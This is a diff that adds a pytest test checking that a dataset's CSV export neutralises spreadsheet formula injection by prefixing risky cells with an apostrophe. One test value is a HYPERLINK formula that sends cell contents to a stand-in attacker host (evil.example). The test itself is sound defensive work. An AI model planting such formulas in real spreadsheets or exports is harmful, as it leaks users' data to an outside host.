@@ -215,3 +215,33 @@ def test_folder_export_never_replaces_a_foreign_folder(small_ds: Dataset, tmp_pa
         "dictionary_tables.csv",
         "dictionary.md",
     }
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
+    small_ds: Dataset, tmp_path: Path
+) -> None:
+    import csv
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'
+    orgs = small_ds.organisations.copy()
+    orgs.loc[orgs.index[0], "name"] = formula
+    orgs.loc[orgs.index[1], "name"] = "-2+3"
+    orgs.loc[orgs.index[2], "name"] = "\tcmd"
+    small_ds.organisations = orgs
+    answers = small_ds.answers_long.copy()
+    free = answers.index[answers["question_key"].eq("a1_parcours") & answers["value"].notna()]
+    answers.loc[free[0], "value"] = "@SUM(1+1)"
+    answers.loc[free[1], "value"] = "-12.5"  # a number stays a number
+    small_ds.answers_long = answers
+    out = tmp_path / "csv"
+    write_csv(small_ds, out)
+
+    with open(out / "organisations.csv", encoding="utf-8", newline="") as handle:
+        names = [row["name"] for row in csv.DictReader(handle)]
+    assert names[:3] == ["'" + formula, "'-2+3", "'\tcmd"]
+    with open(out / "answers_wide.csv", encoding="utf-8", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert "'@SUM(1+1)" in cells and "@SUM(1+1)" not in cells
+    assert "-12.5" in cells and "'-12.5" not in cells
+    assert not [c for c in cells if c[:1] in ("=", "@", "+", "\t", "\r")]
+    assert "starts with an apostrophe" in (out / "dictionary.md").read_text(encoding="utf-8")
